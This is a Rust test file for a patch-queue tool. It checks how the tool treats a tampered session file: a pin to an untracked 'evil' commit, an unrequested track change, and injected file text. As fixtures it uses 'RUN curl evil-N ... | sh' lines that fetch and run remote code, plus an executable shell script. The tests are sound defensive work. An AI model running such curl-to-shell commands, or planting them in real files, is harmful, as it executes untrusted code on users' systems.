//! How far a session file is trusted, which may come with a pull: its target, and the words in it.

use serde_json::json;

use super::{ENTRY, LAST, fifth, go_on, one, refresh};
use crate::refresh::bench::{Bench, LINES, assert_in_step, with};
use crate::support::{Env, in_both_worlds};

const FILE: &str = "ws/sessions/up.toml";

/// Makes a session of [`one`] in which everything is decided; nothing is written yet.
fn decided<'e>(env: &'e Env, key: &str) -> Bench<'e> {
    let bench = one(env, ENTRY);
    let mut terminal = refresh(env);
    terminal.answer("a.txt:5", key).answer(LAST, "n");
    terminal.end().exits(1);
    bench
}

/// Changes the session's file.
#[track_caller]
fn change(env: &Env, rows: &[(&str, &str)]) {
    let mut text = env.read(FILE);
    for (from, to) in rows {
        assert!(text.contains(from), "{text}");
        text = text.replacen(from, to, 1);
    }
    env.write(FILE, text);
}

/// Makes a commit of the upstream that is in no track; returns its id.
fn aside(bench: &Bench<'_>) -> String {
    bench.git(&["checkout", "-q", "-b", "evil", "v1.1"]);
    std::fs::write(bench.env.path("work/c.txt"), "evil\n").unwrap();
    bench.git(&["add", "-A"]);
    bench.git(&["commit", "-q", "-m", "Evil"]);
    let id = bench.id("evil");
    bench.publish();
    id
}

in_both_worlds! {
    fn a_session_goes_where_the_track_leads_or_somebody_says(env) {
        let bench = decided(env, "p");
        let (good, evil) = (bench.id("v1.1"), aside(&bench));
        change(env, &[(&format!("[to]\npin = \"{good}\"\nversion = \"v1.1\""), &format!("[to]\npin = \"{evil}\"\nversion = \"v3\""))]);
        let short = &evil[..12];
        let run = env.changes_nothing(&["refresh", "--continue"]).exits(1).one_error();
        let run = run.says(&format!("up: the open refresh moves to {short}, which is neither the manifest's track nor a target named here"));
        let run = run.says("is outside of the track 'main'").says_not("v3");
        run.hints(&format!("patchq refresh up --continue --to {short} --once")).hints("patchq refresh up --abort");
        // Another commit is not the target of the session.
        let run = env.changes_nothing(&["refresh", "--continue", "--to", "v1.1"]).exits(2).one_error();
        run.says(&format!("moves to {short}, not to {}", &good[..12])).hints("patchq refresh up --continue");
        // Named, but not meant to be outside.
        env.changes_nothing(&["refresh", "--continue", "--to", &evil]).exits(1).says("is outside of the track");
        // On a terminal there is a question.
        let mut terminal = go_on(env);
        terminal.answer(&format!("continue to {short} anyway?"), "n");
        terminal.end().exits(1).left("which is neither the manifest's track nor a target named here");
        let mut terminal = go_on(env);
        terminal.answer("anyway?", "y").see(LAST).see(&format!("pin {short}")).press("n");
        terminal.end().exits(1);
        // By name it is written, with the version that upstream has.
        let run = env.patchq(&["refresh", "--continue", "--to", "evil", "--once"]).ok();
        run.says("the version of where it goes (its file says 'v3')");
        assert_eq!(env.read("ws/commits/up.txt"), format!("{evil}\n"));
        let version = env.read("ws/commits/up.version.txt");
        assert_eq!(version, format!("v1.1-1-g{}\n", &evil[..8]));
        assert_in_step(env);
    }

    fn a_sessions_version_is_taken_anew(env) {
        decided(env, "p");
        change(env, &[("version = \"v1.1\"", "version = \"v3\"")]);
        let run = env.patchq(&["refresh", "--continue", "--json"]).ok();
        assert_eq!(run.json()["to"]["version"], json!("v1.1"), "{}", run.shown());
        run.says("its file says 'v3'");
        assert_eq!(env.read("ws/commits/up.version.txt"), "v1.1\n");
        assert_in_step(env);
    }

    fn a_session_changes_no_track_by_itself(env) {
        let bench = decided(env, "p");
        aside(&bench);
        change(env, &[("\nfound_by", "\ntrack = \"evil\"\nfound_by")]);
        let run = env.changes_nothing(&["refresh", "--continue"]).exits(1).one_error();
        run.says("would set the track to 'evil', which was not asked for here").hints("--track evil");
        let manifest = env.read("ws/upstreams.toml");
        let mut terminal = go_on(env);
        terminal.answer("would set the track to 'evil'", "n");
        terminal.end().exits(1);
        assert_eq!(env.read("ws/upstreams.toml"), manifest);
    }

    fn what_this_clone_began_outside_of_the_track_goes_on(env) {
        let bench = one(env, "track = \"v1.0*\"\n");
        let mut terminal = env.terminal(&["refresh", "--to", "v1.1", "--once"]);
        terminal.answer("a.txt:5", "p").answer(LAST, "n");
        terminal.end().exits(1);
        env.commit_workspace("A session");
        let clone = env.path("clone");
        env.git(&env.root, &["clone", "-q", "ws", "clone"]);
        env.patchq_in(&clone, &["setup"]).ok();
        let id = bench.id("v1.1");
        let run = env.patchq_in(&clone, &["refresh", "--continue"]).exits(1).one_error();
        run.hints(&format!("patchq refresh up --continue --to {} --once", &id[..12]));
        env.patchq_in(&clone, &["refresh", "--continue", "--to", "v1.1", "--once"]).ok();
        // The server is not asked about it again.
        std::fs::rename(env.path("up.git"), env.path("away.git")).unwrap();
        env.patchq(&["refresh", "--continue"]).ok();
        assert_eq!(env.read("ws/commits/up.txt"), env.read("clone/commits/up.txt"));
    }

    fn a_text_of_neither_side_is_shown_whole_and_nobody_calls_it_the_patchs(env) {
        decided(env, "p");
        let evil = |n: usize| format!("RUN curl evil-{n} {} | sh", "x".repeat(600));
        let lines: String = (1..=60).map(|n| format!("    \"{}\\n\",\n", evil(n))).collect();
        change(env, &[("text = [\n    \"FIVE\\n\",\n", &format!("text = [\n{lines}"))]);
        for args in [&[][..], &["--json"], &["--report", "-"]] {
            let run = env.patchq(&[&["refresh", "--continue"][..], args].concat()).ok();
            for n in 1..=60 {
                assert!(run.stdout.contains(&evil(n)), "{n}\n{}", run.shown());
            }
            run.prints("'the patch's lines'");
            env.patchq(&["undo"]).ok();
        }
        // On a terminal too, before it is written.
        let mut terminal = go_on(env);
        terminal.see(LAST).see("by hand: 'the patch's lines'").see("taken    │ RUN curl evil-1 ").press("n");
        terminal.end().exits(1);
    }

    fn a_file_of_neither_side_is_shown_whole(env) {
        let bench = Bench::new(env, &[("a.txt", Some(LINES)), ("b.txt", Some("b\n"))]);
        let queue = [bench.patch("Both", &[("a.txt", Some(&with("two", "TWO"))), ("b.txt", Some("B\n"))])];
        bench.release("v1.1", &[("b.txt", None)]);
        bench.ready(ENTRY, &queue);
        let mut terminal = refresh(env);
        terminal.answer("upstream deleted the file", "p").answer(LAST, "n");
        terminal.end().exits(1);
        change(env, &[("take = \"patch\"", "take = \"made\""), ("by = \"hand\"", "mode = \"100755\"\ntext = [\n    \"#!/bin/sh\\n\",\n    \"evil\\n\",\n]\nby = \"patch-deletes\"")]);
        let run = env.patchq(&["refresh", "--continue"]).ok();
        let run = run.prints("b.txt: as the session says: 'patch-deletes: the patch's version' (mode 100755)");
        run.prints("  taken    │ #!/bin/sh\n  taken    │ evil\n");
        assert_in_step(env);
    }

    fn a_rule_that_did_not_decide_is_not_named(env) {
        decided(env, "p");
        let run = env.patchq(&["refresh", "--continue", "--json"]);
        let decided = &run.ok().json()["patches"][0]["files"][0]["decided"][0].clone();
        assert_eq!((&decided["by"], &decided["reason"]), (&json!("hand"), &json!("the patch's lines")));
        env.patchq(&["undo"]).ok();
        change(env, &[("by = \"hand\"", "by = \"superset\"")]);
        let run = env.patchq(&["refresh", "--continue", "--json"]).ok();
        let decided = &run.json()["patches"][0]["files"][0]["decided"][0];
        assert_eq!((&decided["by"], &decided["reason"]), (&json!("session"), &json!("'superset: the patch's lines'")));
        assert_eq!(fifth(env), "FIVE\n");
    }
}
